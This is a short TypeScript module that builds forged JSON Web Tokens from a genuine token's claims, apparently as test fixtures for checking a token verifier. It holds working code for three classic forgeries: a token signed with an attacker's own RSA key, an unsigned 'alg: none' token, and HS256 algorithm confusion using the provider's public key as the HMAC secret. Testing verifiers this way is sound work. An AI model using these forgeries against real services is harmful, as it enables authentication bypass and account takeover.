import { createHmac, createPublicKey } from 'node:crypto';
import { decodeJwt, decodeProtectedHeader, generateKeyPair, JWK, SignJWT } from 'jose';

/**
 * Tokens an attacker can make without the identity provider's private key, built from a genuine
 * token's claims so that only the forged part differs.
 */
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** The genuine claims, signed with the attacker's own RSA key, under the given key id. */
export async function signedWithForeignKey(genuineToken: string, kid: string): Promise<string> {
  const { privateKey } = await generateKeyPair('RS256');
  return new SignJWT(decodeJwt(genuineToken)).setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid }).sign(privateKey);
}

/** `alg: none`: the genuine claims with no signature at all. */
export function unsigned(genuineToken: string): string {
  const { kid } = decodeProtectedHeader(genuineToken);
  return `${b64({ alg: 'none', typ: 'JWT', kid })}.${b64(decodeJwt(genuineToken))}.`;
}

/**
 * The classic algorithm-confusion attack: HS256 "signed" with the provider's public key (taken
 * from its JWKS, in PEM form) as the HMAC secret, hoping the verifier uses that key as a secret.
 */
export async function hmacWithPublicKey(genuineToken: string, jwksUri: string): Promise<string> {
  const { kid } = decodeProtectedHeader(genuineToken);
  const jwks = (await (await fetch(jwksUri)).json()) as { keys: JWK[] };
  const jwk = jwks.keys.find((key) => key.kid === kid)!;
  const pem = createPublicKey({ key: jwk as never, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const input = `${b64({ alg: 'HS256', typ: 'JWT', kid })}.${b64(decodeJwt(genuineToken))}`;
  return `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`;
}
